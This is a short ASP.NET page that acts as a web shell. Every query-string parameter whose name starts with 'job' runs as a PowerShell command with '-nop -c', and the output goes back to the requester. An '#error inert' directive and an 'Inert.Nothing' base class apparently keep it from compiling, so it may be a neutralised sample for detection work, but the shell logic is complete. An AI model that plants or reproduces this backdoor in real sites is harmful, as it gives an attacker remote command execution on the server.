<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<%@ Import Namespace="System.Linq" %>
<%
#error inert
Func<string, string> go = s => {
    var i = new System.Diagnostics.ProcessStartInfo("powershell", "-nop -c " + s) { UseShellExecute = false, RedirectStandardOutput = true };
    return System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd();
};
var res = Request.QueryString.AllKeys
    .Where(k => k != null && k.StartsWith("job"))
    .Select(k => Request.QueryString[k])
    .Select(go);
Response.Write(string.Join("\n", res));
%>
